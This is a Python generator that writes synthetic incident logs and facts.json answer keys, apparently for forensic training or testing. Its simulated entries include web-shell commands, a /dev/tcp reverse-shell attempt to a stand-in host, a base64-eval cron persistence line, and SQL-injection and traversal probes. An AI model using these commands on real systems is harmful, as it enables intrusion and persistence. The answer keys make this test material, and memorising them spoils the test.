#!/usr/bin/env python3
"""Writes the three authored incidents with planted red herrings again, the same bytes each time: web-shell, ssh-guessing and
stolen-key, each with its NAME.facts.json beside it: what really happened, and what must not be called an intrusion.

usage: samples/make-incidents.py          (run from anywhere; Python 3.9 or newer, standard library only)

All hosts, users, addresses and products are made up (RFC 5737, RFC 3849, example.com)."""
import base64
import datetime
import gzip
import hashlib
import importlib.machinery
import importlib.util
import ipaddress
import json
import os
import random
import shutil
import struct
import sys
import zoneinfo

HERE = os.path.dirname(os.path.abspath(__file__))
UTC = datetime.timezone.utc
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
BROWSERS = [FIREFOX,
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/146.0.0.0 Safari/537.36",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.4 Mobile/15E148 Safari/604.1"]


def shared():
    """The helpers of make-samples.py: its name is none that import takes."""
    sys.dont_write_bytecode = True
    loader = importlib.machinery.SourceFileLoader("make_samples", os.path.join(HERE, "make-samples.py"))
    module = importlib.util.module_from_spec(importlib.util.spec_from_loader("make_samples", loader))
    loader.exec_module(module)
    return module


def seconds(n):
    return datetime.timedelta(seconds=n)


def minutes(n):
    return datetime.timedelta(minutes=n)


def zulu(time):
    return time.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


class Host(shared().Server):
    """A server whose times are kept in UTC and written in its own zone; lines are stamped only when they are written."""

    def __init__(self, seed, name, zone, iso):
        super().__init__(seed)
        self.name, self.zone_name, self.zone, self.iso = name, zone, zoneinfo.ZoneInfo(zone), iso
        self.logs, self.order, self.booted, self.sessions = {}, 0, None, set()

    def at(self, text):
        return datetime.datetime.strptime(text, "%Y-%m-%d %H:%M:%S").replace(tzinfo=self.zone).astimezone(UTC)

    def days(self, start, end):
        """Midnights of the host's days."""
        day = start.astimezone(self.zone).replace(hour=0, minute=0, second=0)
        while day < end:
            yield day.astimezone(UTC), day.weekday()
            day = (day + datetime.timedelta(days=1, hours=2)).replace(hour=0)

    def on(self, day, hour, minute=0, second=0):
        return day.astimezone(self.zone).replace(hour=hour, minute=minute, second=second).astimezone(UTC)

    def any_second(self, day):
        return day + seconds(self.random.randrange(86400))

    # ---- lines

    def put(self, log, time, text):
        """A line whose layout carries its own time, or a function that makes it from time and microseconds."""
        self.order += 1
        self.logs.setdefault(log, []).append((time, self.order, text))

    def log(self, log, time, program, message, pid=None):
        tag = program if pid is None else "%s[%d]" % (program, pid)
        self.put(log, time, lambda when, micro: "%s %s %s: %s" % (self.stamp(when, micro), self.name, tag, message))

    def stamp(self, time, micro):
        local = time.astimezone(self.zone)
        return local.replace(microsecond=micro).isoformat(timespec="microseconds") if self.iso else "%s %2d %s" % (local.strftime("%b"), local.day, local.strftime("%H:%M:%S"))

    def kernel(self, time, message):
        uptime = (time - self.booted).total_seconds()
        self.log("kern", time, "kernel", "[%5d.%06d] %s" % (uptime, self.random.randrange(1000000), message))

    def access(self, time, address, request, status, size, referrer="-", agent=FIREFOX):
        stamp = time.astimezone(self.zone).strftime("%d/%b/%Y:%H:%M:%S %z")
        self.put("access", time, '%s - - [%s] "%s" %d %s "%s" "%s"' % (address, stamp, request, status, size, referrer, agent))

    def lines_of(self, log, since=None, until=None):
        """Lines in the order of time; within one second their microseconds grow."""
        chosen = [l for l in sorted(self.logs.get(log, []), key=lambda l: (l[0], l[1])) if (since is None or l[0] >= since) and (until is None or l[0] < until)]
        made, at = [], 0
        while at < len(chosen):
            same = [l for l in chosen[at:at + 200] if l[0] == chosen[at][0]]
            letters = random.Random("%s %s" % (log, same[0][0]))
            for micro, (time, _, text) in zip(sorted(letters.sample(range(1000, 999999), len(same))), same):
                made.append(text(time, micro) if callable(text) else text)
            at += len(same)
        return made

    # ---- log-ins

    def record(self, kind, time, user="", line="", ident="", host="", address="", pid=0):
        packed = ipaddress.ip_address(address).packed.ljust(16, b"\0") if address else bytes(16)
        return struct.pack("<hxxi32s4s32s256shhiii16s20x", kind, pid, line.encode(), ident.encode(), user.encode(), host.encode(),
                           0, 0, 0, int(time.timestamp()), self.random.randrange(1000000), packed)

    def key_of(self, label):
        return base64.b64encode(hashlib.sha256(label.encode()).digest()).decode().rstrip("=")

    def mistype(self, time, address, user, tries, stays=False):
        """A person at an OpenSSH client: three prompts a connection."""
        while tries > 0:
            pid, port, now = self.pid(), self.random.randrange(32768, 61000), min(3, tries)
            self.log("auth", time, "sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s" % (address, user), pid)
            for number in range(now):
                time += seconds(2 if number == 0 else self.random.randrange(4, 9))
                self.log("auth", time, "sshd", "Failed password for %s from %s port %d ssh2" % (user, address, port), pid)
                self.btmp.append((time, self.record(6, time, user, "ssh:notty", "", address, address, pid)))
            tries -= now
            if tries > 0 or not stays:
                self.log("auth", time, "sshd", "Connection closed by authenticating user %s %s port %d [preauth]" % (user, address, port), pid)
                if now > 1:
                    self.log("auth", time, "sshd", "PAM %d more authentication failure%s; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s"
                             % (now - 1, "s" if now > 2 else "", address, user), pid)
                time += seconds(self.random.randrange(5, 15))
        return time, pid, port

    def login(self, time, user, uid, address, last, method="publickey", key=None, tty=None, commands=(), trace=True, closing=True, joined=None):
        """A log-in by SSH until `last` later, with what sudo ran in it: (seconds, command). Without tty: a program's, which wtmp does not hold.
        trace=False: its login records were overwritten with zeros later."""
        pid, port = joined or (self.pid(), self.random.randrange(32768, 61000))
        session = self.session_at(time)
        end = time + last
        tail = ": ED25519 SHA256:%s" % self.key_of(key or user) if method == "publickey" else ""
        self.log("auth", time, "sshd", "Accepted %s for %s from %s port %d ssh2%s" % (method, user, address, port, tail), pid)
        self.log("auth", time, "sshd", "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)" % (user, uid), pid)
        self.log("auth", time, "systemd-logind", "New session %d of user %s." % (session, user), 612)
        for offset, command in commands:
            self.sudo(time + seconds(offset), user, uid, tty or 0, command)
        if closing:
            self.log("auth", end, "sshd", "Received disconnect from %s port %d:11: disconnected by user" % (address, port), pid)
            self.log("auth", end, "sshd", "Disconnected from user %s %s port %d" % (user, address, port), pid)
        self.log("auth", end, "sshd", "pam_unix(sshd:session): session closed for user %s" % user, pid)
        self.log("auth", end, "systemd-logind", "Removed session %d." % session, 612)
        self.log("syslog", time, "systemd", "Started session-%d.scope - Session %d of User %s." % (session, session, user), 1)
        self.log("syslog", end, "systemd", "session-%d.scope: Deactivated successfully." % session, 1)
        if tty is not None:
            line = "pts/%d" % tty
            self.wtmp += [(time, self.record(7, time, user, line, "ts/%d" % tty, address, address, pid) if trace else bytes(384)),
                          (end, self.record(8, end, "", line, "ts/%d" % tty, "", "", pid) if trace else bytes(384))]
            self.lastlog[uid] = self.slot(time, line, address)
        return session

    def slot(self, time, line, address):
        return struct.pack("<i32s256s", int(time.timestamp()), line.encode(), address.encode())

    def session_at(self, time):
        """Session numbers grow; cron's jobs take some too."""
        number = int((time - self.booted).total_seconds() // 900) + 1
        while number in self.sessions:
            number += 1
        self.sessions.add(number)
        return number

    def sudo(self, time, user, uid, tty, command, cwd=None, program="sudo"):
        self.log("auth", time, program, "%8s : TTY=pts/%d ; PWD=%s ; USER=root ; COMMAND=%s" % (user, tty, cwd or "/home/" + user, command))
        self.log("auth", time, program, "pam_unix(sudo:session): session opened for user root(uid=0) by %s(uid=%d)" % (user, uid))
        self.log("auth", time + seconds(1), program, "pam_unix(sudo:session): session closed for user root")

    def boot_up(self, time, release):
        self.booted = time
        self.wtmp.append((time, self.record(2, time, "reboot", "~", "~~", release)))
        self.wtmp.append((time + seconds(9), self.record(1, time + seconds(9), "runlevel", "~", "~~", release, "", 53)))
        self.log("kern", time, "kernel", "[    0.000000] Linux version %s (builder@build.example.com) #1 SMP PREEMPT_DYNAMIC" % release)
        self.log("auth", time + seconds(9), "sshd", "Server listening on 0.0.0.0 port 22.", 611)

    def hourly(self, start, end, minute=17):
        """cron's hourly line, as every Debian writes it."""
        time = start.replace(minute=minute, second=1)
        while time < end:
            if time >= start:
                self.cron(time, "root", 0, "cd / && run-parts --report /etc/cron.hourly")
            time += minutes(60)

    def cron(self, time, user, uid, command):
        pid = self.pid()
        self.log("auth", time, "CRON", "pam_unix(cron:session): session opened for user %s(uid=%d) by (uid=0)" % (user, uid), pid)
        self.log("auth", time, "CRON", "pam_unix(cron:session): session closed for user %s" % user, pid)
        self.log("syslog", time, "CRON", "(%s) CMD (%s)" % (user, command), pid)

    def upgrade(self, time, name, version, later):
        stamp = time.astimezone(self.zone).strftime("%Y-%m-%d %H:%M:%S")
        for text in ("startup archives unpack", "upgrade %s:amd64 %s %s" % (name, version, later), "status half-configured %s:amd64 %s" % (name, version),
                     "status unpacked %s:amd64 %s" % (name, later), "status installed %s:amd64 %s" % (name, later)):
            self.put("dpkg", time, "%s %s" % (stamp, text))
        end = (time + seconds(7)).astimezone(self.zone)
        self.put("apt", time, "\nStart-Date: %s\nCommandline: /usr/bin/unattended-upgrade\nUpgrade: %s:amd64 (%s, %s)\nEnd-Date: %s"
                 % (stamp.replace(" ", "  "), name, version, later, end.strftime("%Y-%m-%d  %H:%M:%S")))

    # ---- writing

    def begin(self, root, release, passwd):
        shutil.rmtree(root, ignore_errors=True)
        self.text(root, "etc/hostname", self.name + "\n")
        self.text(root, "etc/os-release", release)
        self.text(root, "etc/passwd", passwd)

    def family(self, root, path, log, bounds=(), dated=False, oldest=None, packed_at=2):
        """A log and its rotated parts. bounds: the instants of rotation, oldest first; packed_at: from which part on they are packed."""
        def content(since, until):
            return "".join(line + "\n" for line in self.lines_of(log, since, until)).encode()
        self.parts(root, path, content, bounds, dated, oldest, packed_at)

    def records(self, root, path, records, bounds=(), packed_at=1):
        ordered = sorted(records, key=lambda r: r[0])
        self.parts(root, path, lambda since, until: b"".join(r for t, r in ordered if (since is None or t >= since) and (until is None or t < until)), bounds, False, None, packed_at)

    def parts(self, root, path, content, bounds, dated, oldest, packed_at):
        edges = [oldest] + list(bounds) + [None]
        for number, (since, until) in enumerate(zip(reversed(edges[:-1]), reversed(edges[1:]))):
            data = content(since, until)
            if not data and number > 0:
                continue
            name = path if number == 0 else "%s-%s" % (path, until.astimezone(self.zone).strftime("%Y%m%d")) if dated else "%s.%d" % (path, number)
            if number >= packed_at and number > 0:
                name, data = name + ".gz", gzip.compress(data, mtime=0)
            self.bytes(root, "var/log/" + name, data)

    def write_lastlog(self, root):
        """Almost all of it are holes, as on a server."""
        path = os.path.join(root, "var/log/lastlog")
        with open(path, "wb") as f:
            for uid, slot in sorted(self.lastlog.items()):
                f.seek(292 * uid)
                f.write(slot)


def facts(name, **what):
    with open(os.path.join(HERE, name + ".facts.json"), "w", encoding="utf-8", newline="\n") as f:
        f.write(json.dumps(dict(sample=name, **what), indent=2, ensure_ascii=False) + "\n")


# ---- web-shell: an upload form of a plug-in, a script among the pictures, and the shop's database carried away

SHOP, OWNER, PARTNER, SCOUT, INTRUDER, FETCHER, DROP = (
    "192.0.2.10", "192.0.2.40", "198.51.100.200", "203.0.113.50", "203.0.113.51", "203.0.113.120", "203.0.113.9")
SCANNER = "Mozilla/5.0 (compatible; HafenScan/3.2; +https://scan.hafen-hosting.example.com/; ordered by mirjam)"
SITE = "https://shop.example.com"
SHELL = "/wp-content/uploads/2026/04/nl-thumb.php"
PAGES = ["/", "/shop/", "/shop/page/2/", "/produkt/filzkorb-grau/", "/produkt/filzkorb-blau/", "/produkt/wollteppich/", "/warenkorb/", "/kasse/", "/impressum/",
         "/wp-content/themes/nordlicht/style.css?ver=4.1", "/wp-content/uploads/2026/03/filzkorb.jpg", "/wp-content/uploads/2026/03/teppich-1024x768.jpg",
         "/wp-json/wc/store/v1/cart", "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1", "/wp-content/plugins/nordlicht-gallery/gallery.js?ver=1.4.2"]


def shop_noise(host, start, end):
    """Visitors, the shop's own calls, crawlers, and what every web server on the internet is asked for."""
    for day, weekday in host.days(start, end):
        host.put("error", day + seconds(4), lambda t, m: "[%s.%06d %s] [mpm_prefork:notice] [pid 900] AH00163: Apache/2.4.52 (Ubuntu) configured -- resuming normal operations" % error_stamp(host, t, m))
        host.put("error", day + seconds(4), lambda t, m: "[%s.%06d %s] [core:notice] [pid 900] AH00094: Command line: '/usr/sbin/apache2'" % error_stamp(host, t, m))
        for _ in range(24):
            time, visitor, agent = host.any_second(day), "192.0.2.%d" % host.random.randrange(60, 250), host.random.choice(BROWSERS)
            visitor = "2001:db8:40:%x::%x" % (host.random.randrange(1, 99), host.random.randrange(2, 999)) if host.random.random() < 0.2 else visitor
            referrer = host.random.choice(["-", "https://search.example.net/", SITE + "/"])
            for page in host.random.sample(PAGES, host.random.randrange(2, 6)):
                if time < end:
                    host.access(time, visitor, "GET %s HTTP/1.1" % page, 200, host.random.randrange(900, 64000), referrer, agent)
                    time, referrer = time + seconds(host.random.randrange(1, 40)), SITE + "/shop/"
            if host.random.random() < 0.2 and time < end:
                host.access(time, visitor, "POST /?wc-ajax=add_to_cart HTTP/1.1", 200, host.random.randrange(700, 1800), SITE + "/shop/", agent)
        for hour in range(0, 24, 3):
            time = host.on(day, hour, host.random.randrange(60), host.random.randrange(60))
            if time < end:
                host.access(time, SHOP, "POST /wp-cron.php?doing_wp_cron=%d.%d HTTP/1.1" % (time.timestamp(), host.random.randrange(10**6)), 200, "-", "-", "WordPress/6.8.1; " + SITE)
        for _ in range(5):
            time = host.any_second(day)
            if time < end:
                host.access(time, "192.0.2.251", "GET %s HTTP/1.1" % host.random.choice(PAGES + ["/robots.txt"]), 200, 5120, "-", "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example.net/)")
        for _ in range(3):
            time, source = host.any_second(day), "198.51.100.%d" % host.random.randrange(2, 120)
            asked = host.random.choice([["GET /.env", "GET /.git/config"], ["POST /xmlrpc.php"], ["GET /wp-login.php"], ["GET /phpmyadmin/index.php", "GET /pma/index.php"],
                                        ["GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"], ["GET /wp-content/plugins/contact-anything/readme.txt"], ["GET /backup.zip", "GET /db.sql"]])
            for request in asked:
                if time < end:
                    status = 403 if "/." in request or "xmlrpc" in request else 200 if "wp-login" in request else 404
                    host.access(time, source, request + " HTTP/1.1", status, {403: 199, 200: 6120, 404: 9120}[status], "-", host.random.choice(["Mozilla/5.0", "python-requests/2.32.3", "Go-http-client/1.1"]))
                    if status == 403:
                        denied(host, time, source, request.split()[1])
                    time += seconds(1)
        if host.random.random() < 0.4:
            time, source = host.any_second(day), "198.51.100.%d" % host.random.randrange(2, 120)
            if time < end:
                host.access(time, source, "\\x16\\x03\\x01\\x05\\xa8\\x01", 400, 484, "-", "-")
        for _ in range(2):
            time = host.any_second(day)
            if time < end:
                host.put("error", time, lambda t, m: "[%s.%06d %s] [php:warn] [pid %d] [client 192.0.2.%d:%d] PHP Warning:  Undefined array key \"size\" in /var/www/shop/wp-content/plugins/nordlicht-gallery/view.php on line 88"
                         % (error_stamp(host, t, m) + (host.pid(), host.random.randrange(60, 250), host.random.randrange(33000, 60000))))


def error_stamp(host, time, micro):
    local = time.astimezone(host.zone)
    return local.strftime("%a %b %d %H:%M:%S"), micro, local.strftime("%Y")


def denied(host, time, address, path):
    pid, port = host.pid(), host.random.randrange(33000, 60000)
    host.put("error", time, lambda t, m: "[%s.%06d %s] [authz_core:error] [pid %d] [client %s:%d] AH01630: client denied by server configuration: /var/www/shop%s" % (error_stamp(host, t, m) + (pid, address, port, path)))


def ordered_scan(host, begin):
    """The red herring: loud, announced, in office hours, and never answered but with 404 and 403."""
    time, words = begin, ("shell wso c99 r57 b374k alfa cmd up upload mini x 1 adminer backdoor test info phpinfo config backup db dump old new login admin").split()
    asked = ["GET /%s%s.php" % (place, word) for place in ("", "wp-content/uploads/", "wp-content/uploads/2026/04/", "images/", "tmp/") for word in words]
    asked += ["GET /wp-content/uploads/%s.php?cmd=id" % w for w in words] + ["POST /wp-content/uploads/2026/04/%s.php" % w for w in words]
    asked += ["GET /produkt/?id=1%%27%%20UNION%%20SELECT%%20%s--%%20-" % ",".join(str(n) for n in range(1, k)) for k in range(3, 24)]
    asked += ["GET /download.php?file=%s/passwd" % ("..%2f" * k + "etc") for k in range(2, 12)] + ["GET /cgi-bin/%s.cgi" % w for w in words]
    asked += ["GET /%s" % f for f in (".env", ".env.bak", ".git/HEAD", ".git/config", ".htpasswd", ".svn/entries", "wp-config.php.bak", "wp-config.php~", "dump.sql", "shop.sql.gz", "backup.tar.gz")]
    asked += ["GET /wp-content/plugins/%s/readme.txt" % p for p in ("file-lord", "slider-queen", "contact-anything", "form-o-matic", "backup-friend", "seo-owl", "cache-otter", "shop-hare")]
    host.random.shuffle(asked)
    for request in asked:
        secret = "/." in request
        if "?id=1" in request or "etc/passwd" in request:
            secret = True
        host.access(time, PARTNER, request + " HTTP/1.1", 403 if secret else 404, 199 if secret else 9120, "-", SCANNER)
        if "/." in request and "?" not in request:
            denied(host, time, PARTNER, request.split()[1])
        time += seconds(host.random.randrange(3, 14))
    return begin, time, len(asked)


def web_shell():
    host = Host(20260417, "shop1", "Europe/Berlin", iso=False)
    start, end = host.at("2026-04-06 04:10:22"), host.at("2026-04-26 11:40:00")
    host.boot_up(start, "5.15.0-139-generic")
    host.hourly(start, end)
    shop_noise(host, start, end)
    for day, weekday in host.days(start, end):
        for _ in range(4):
            time, source = host.any_second(day), "198.51.100.%d" % host.random.randrange(2, 120)
            if start < time < end:
                host.refuse(time, source, host.random.choice(["root", "admin", "ubuntu", "wordpress"]))
        for _ in range(7):
            time = host.any_second(day)
            if start < time < end:
                host.kernel(time, "[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC=198.51.100.%d DST=%s LEN=44 TOS=0x00 PREC=0x00 TTL=%d ID=%d PROTO=TCP SPT=%d DPT=%d WINDOW=1024 RES=0x00 SYN URGP=0 "
                            % (host.random.randrange(2, 120), SHOP, host.random.randrange(40, 60), host.random.randrange(65000), host.random.randrange(33000, 61000), host.random.choice([23, 445, 3389, 8080, 5900, 6379])))
        if weekday in (0, 3) and host.on(day, 9) < end:
            host.login(host.on(day, 9, host.random.randrange(50)), "mirjam", 1000, OWNER, minutes(14 + host.random.randrange(20)), tty=0,
                       commands=[(90, "/usr/bin/apt update")] if weekday == 0 else [])
        if weekday == 1 and host.on(day, 6, 31) < end:
            host.upgrade(host.on(day, 6, 31, host.random.randrange(60)), "libxml2", "2.9.13+dfsg-1ubuntu0.%d" % day.day, "2.9.13+dfsg-1ubuntu0.%d" % (day.day + 1))

    def owner(time, request, status, size, referrer="/wp-admin/"):
        host.access(host.at(time), OWNER, request + " HTTP/1.1", status, size, SITE + referrer, FIREFOX)

    # The owner's own upload of a plug-in, by her own hand, days before.
    owner("2026-04-13 10:02:11", "GET /wp-login.php", 200, 6120, "/")
    owner("2026-04-13 10:02:25", "POST /wp-login.php", 302, 1204, "/wp-login.php")
    owner("2026-04-13 10:02:26", "GET /wp-admin/", 200, 61200, "/wp-login.php")
    owner("2026-04-13 10:04:02", "GET /wp-admin/plugin-install.php?tab=upload", 200, 38110)
    owner("2026-04-13 10:05:40", "POST /wp-admin/update.php?action=upload-plugin", 200, 30220, "/wp-admin/plugin-install.php")
    owner("2026-04-13 10:05:58", "GET /wp-admin/plugins.php?action=activate&plugin=versand-label%2Fversand-label.php", 302, 410, "/wp-admin/update.php?action=upload-plugin")
    owner("2026-04-13 10:05:59", "GET /wp-admin/plugins.php?activate=true", 200, 52230, "/wp-admin/update.php?action=upload-plugin")
    for number in range(9):
        owner("2026-04-13 10:%02d:30" % (7 + number), "POST /wp-admin/admin-ajax.php", 200, 412, "/wp-admin/plugins.php")
    owner("2026-04-13 10:21:05", "POST /wp-admin/async-upload.php", 200, 980, "/wp-admin/upload.php")
    scan = ordered_scan(host, host.at("2026-04-15 10:00:04"))

    # Somebody looks which of the plug-ins are here, quietly, and finds the one with the open upload.
    def scout(time, request, status, size, agent=BROWSERS[1]):
        host.access(host.at(time), SCOUT, request + " HTTP/1.1", status, size, "-", agent)
    for time, plugin, status in (("2026-04-16 22:48:02", "file-lord", 404), ("2026-04-16 22:51:44", "form-o-matic", 404), ("2026-04-16 22:56:31", "nordlicht-gallery", 200)):
        scout(time, "GET /wp-content/plugins/%s/readme.txt" % plugin, status, 2210 if status == 200 else 9120)
    scout("2026-04-16 22:57:10", "GET /wp-admin/admin-ajax.php?action=nl_gallery_upload", 400, 1)
    scout("2026-04-16 22:57:50", "GET /wp-content/plugins/nordlicht-gallery/upload.php", 200, 31)

    def come(time, address, request, status, size, agent=BROWSERS[1]):
        host.access(host.at(time), address, request + " HTTP/1.1", status, size, "-", agent)
    come("2026-04-17 02:27:12", INTRUDER, "GET /wp-content/plugins/nordlicht-gallery/upload.php", 200, 31)
    come("2026-04-17 02:27:41", INTRUDER, "POST /wp-content/plugins/nordlicht-gallery/upload.php", 200, 74)
    come("2026-04-17 02:28:03", INTRUDER, "GET " + SHELL, 200, 20)
    come("2026-04-17 02:28:19", INTRUDER, "GET %s?cmd=id" % SHELL, 200, 74)
    come("2026-04-17 02:28:52", INTRUDER, "GET %s?cmd=uname%%20-a" % SHELL, 200, 141)
    come("2026-04-17 02:29:40", INTRUDER, "GET %s?cmd=cat+..%%2F..%%2F..%%2F..%%2Fwp-config.php" % SHELL, 200, 3611)
    for time, size in (("02:31:09", 412), ("02:32:55", 96), ("02:34:20", 20), ("02:35:11", 20), ("02:36:48", 230), ("02:38:30", 118), ("02:41:02", 1904), ("02:44:37", 20)):
        come("2026-04-17 " + time, INTRUDER, "POST " + SHELL, 200, size)
    come("2026-04-17 02:52:13", FETCHER, "HEAD /wp-content/uploads/2026/04/nl-2604.sql.gz", 200, "-", "curl/8.5.0")
    come("2026-04-17 02:52:15", FETCHER, "GET /wp-content/uploads/2026/04/nl-2604.sql.gz", 200, 18433021, "curl/8.5.0")
    come("2026-04-17 02:58:40", INTRUDER, "POST " + SHELL, 200, 20)
    come("2026-04-19 23:14:08", FETCHER, "POST " + SHELL, 200, 377)
    come("2026-04-19 23:15:30", FETCHER, "POST " + SHELL, 200, 52)
    come("2026-04-19 23:19:02", FETCHER, "GET %s?cmd=ls+-la+%%2Fvar%%2Fbackups" % SHELL, 200, 612)

    def php(time, text, level="warn"):
        pid, port = host.pid(), host.random.randrange(33000, 60000)
        host.put("error", host.at(time), lambda t, m: "[%s.%06d %s] [php:%s] [pid %d] [client %s:%d] %s" % (error_stamp(host, t, m) + (level, pid, INTRUDER, port, text)))
    php("2026-04-17 02:27:41", "PHP Warning:  move_uploaded_file(): Unable to set times of '/var/www/shop/wp-content/uploads/2026/04/nl-thumb.php' in /var/www/shop/wp-content/plugins/nordlicht-gallery/upload.php on line 41")
    php("2026-04-17 02:28:03", "PHP Warning:  Undefined array key \"cmd\" in /var/www/shop%s on line 3" % SHELL)
    # What a command of the shell's says to its standard error stands in the log without a time.
    for time, text in (("2026-04-17 02:34:20", "sh: 1: nc: not found"), ("2026-04-17 02:35:11", "bash: connect: Connection refused"), ("2026-04-17 02:35:11", "bash: line 1: /dev/tcp/%s/4444: Connection refused" % DROP)):
        host.put("error", host.at(time), text)
    for time in ("2026-04-17 02:35:11", "2026-04-17 02:35:12", "2026-04-17 02:35:14"):
        host.kernel(host.at(time), "[UFW BLOCK] IN= OUT=eth0 SRC=%s DST=%s LEN=60 TOS=0x00 PREC=0x00 TTL=64 ID=%d DF PROTO=TCP SPT=51822 DPT=4444 WINDOW=64240 RES=0x00 SYN URGP=0 " % (SHOP, DROP, host.random.randrange(65000)))
    host.log("auth", host.at("2026-04-17 02:36:48"), "sudo", "pam_unix(sudo:auth): conversation failed")
    host.log("auth", host.at("2026-04-17 02:36:48"), "sudo", "pam_unix(sudo:auth): auth could not identify password for [www-data]")
    host.log("auth", host.at("2026-04-17 02:36:48"), "sudo", "www-data : a password is required ; PWD=/var/www/shop/wp-content/uploads/2026/04 ; USER=root ; COMMAND=list")
    host.log("syslog", host.at("2026-04-17 02:38:30"), "crontab", "(www-data) LIST (www-data)", 41207)
    host.log("syslog", host.at("2026-04-17 02:38:30"), "crontab", "(www-data) REPLACE (www-data)", 41209)
    host.log("syslog", host.at("2026-04-17 02:39:01"), "cron", "(www-data) RELOAD (crontabs/www-data)", 702)
    time = host.at("2026-04-17 03:41:01")
    while time < end:
        host.cron(time, "www-data", 33, "php -r 'eval(base64_decode(file_get_contents(\"/var/www/shop/wp-content/uploads/2026/04/nl.css\")));' >/dev/null 2>&1")
        time += minutes(180)

    root = os.path.join(HERE, "web-shell")
    host.begin(root, 'PRETTY_NAME="Ubuntu 22.04.5 LTS"\nNAME="Ubuntu"\nID=ubuntu\nID_LIKE=debian\nVERSION_ID="22.04"\n',
               "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
               "mysql:x:114:119:MySQL Server,,,:/nonexistent:/bin/false\nmirjam:x:1000:1000:Mirjam:/home/mirjam:/bin/bash\n")
    host.text(root, "etc/timezone", "Europe/Berlin\n")
    weeks = [host.at("2026-04-%02d 00:00:02" % d) for d in (12, 19, 26)]
    for name in ("auth", "syslog", "kern"):
        host.family(root, name if name == "syslog" else name + ".log", name, weeks, packed_at=1)
    for name in ("access", "error"):
        host.family(root, "apache2/%s.log" % name, name, weeks[1:], oldest=host.at("2026-04-12 00:00:02"), packed_at=1)
    host.family(root, "dpkg.log", "dpkg")
    host.family(root, "apt/history.log", "apt")
    host.records(root, "wtmp", host.wtmp)
    host.records(root, "btmp", host.btmp, [host.at("2026-04-24 00:00:02")])
    facts("web-shell",
          zone="Europe/Berlin", collected=zulu(end), verdict=["compromised"],
          firstEntry={"at": zulu(host.at("2026-04-17 02:27:41")), "withinSeconds": 60, "address": INTRUDER, "user": None,
                      "how": "POST of a script to /wp-content/plugins/nordlicht-gallery/upload.php, which asks for no log-in; its first command ran 38 seconds later"},
          attackers=[INTRUDER, FETCHER], scouts=[SCOUT],
          accounts={"used": ["www-data"], "made": []},
          did=["2026-04-17 02:28 commands through %s: id, uname -a, wp-config.php read" % SHELL, "2026-04-17 02:35 a reverse shell to %s port 4444 tried, refused by the firewall" % DROP,
               "2026-04-17 02:36 sudo asked for as www-data, refused", "2026-04-17 02:52 the database's export nl-2604.sql.gz (18 MB) fetched by %s" % FETCHER, "2026-04-19 23:14 came back"],
          left=[SHELL, "/wp-content/uploads/2026/04/nl.css", "crontab of www-data"], hidden=[],
          redHerrings=[{"what": "a security scan ordered by the owner: %d requests in two hours on 2026-04-15, all answered with 403 or 404" % scan[2], "addresses": [PARTNER], "users": []},
                       {"what": "the owner's own upload of the plug-in versand-label in wp-admin on 2026-04-13, and her log-ins", "addresses": [OWNER], "users": ["mirjam"]}])

# ---- ssh-guessing: one weak account among days of guessing, and everything that is done to stay and to hide

ADMIN, COPIER, COLLEAGUE, LUCKY, RETURNER, STORE = "192.0.2.33", "192.0.2.60", "192.0.2.47", "203.0.113.88", "203.0.113.140", "203.0.113.14"


def ssh_guessing():
    host = Host(20260521, "lager1", "Asia/Tokyo", iso=True)
    start, end = host.at("2026-05-11 08:30:12"), host.at("2026-06-01 11:50:00")
    hole = host.at("2026-05-22 00:00:00"), host.at("2026-05-22 07:00:00")
    deaf = host.at("2026-05-21 04:58:32"), host.at("2026-05-21 05:36:10")
    host.boot_up(start, "6.1.0-35-amd64")
    host.hourly(start, end)

    # Addresses take turns: none tries often enough to stand out. Every fourth try is for the copier's account, whose name they found to exist.
    sources = ["198.51.100.%d" % n for n in host.random.sample(range(2, 250), 52)] + ["2001:db8:%x:%x::%x" % (n, n % 7, n % 11 + 2) for n in host.random.sample(range(0x100, 0xf00), 12)]
    for day, _ in host.days(start, end):
        for _ in range(25):
            time = host.any_second(day)
            user = host.random.choice(["root", "scan", "scan", "scan", "admin", "ubuntu", "oracle", "test", "ftp", "postgres", "printer", "scanner", "git"])
            if start < time < end:
                host.refuse(time, host.random.choice(sources), user, known=user in ("root", "scan"))
    for text, user in (("2026-05-15 11:20:41", "admin"), ("2026-05-18 16:02:10", "scan"), ("2026-05-20 02:13:55", "scan")):
        host.refuse(host.at(text), LUCKY, user, known=user == "scan")

    # The office: the copier brings its scans by SFTP, the administrator works, a colleague begins.
    for day, weekday in host.days(start, end):
        if weekday < 5:
            for hour in (9, 13, 17):
                time = host.on(day, hour, host.random.randrange(60), host.random.randrange(60))
                if start < time < end:
                    host.login(time, "scan", 1001, COPIER, seconds(20 + host.random.randrange(30)), method="password")
                    host.log("auth", time, "sshd", "subsystem request for sftp by user scan", host.pid())
            time = host.on(day, 10, host.random.randrange(50), host.random.randrange(60))
            if start < time < end:
                host.login(time, "kenji", 1000, ADMIN, minutes(12 + host.random.randrange(40)), method="password", tty=0,
                           commands=[(120, "/usr/bin/apt update"), (170, "/usr/bin/apt upgrade")] if weekday == 2 else [(95, "/usr/bin/systemctl status smbd")] if weekday == 0 else [])
        if weekday == 2 and start < host.on(day, 6, 20) < end:
            host.upgrade(host.on(day, 6, 20, host.random.randrange(60)), "libgnutls30", "3.7.9-2+deb12u%d" % day.day, "3.7.9-2+deb12u%d" % (day.day + 1))
    slip, pid, port = host.mistype(host.at("2026-05-19 08:52:10"), ADMIN, "kenji", 7, stays=True)
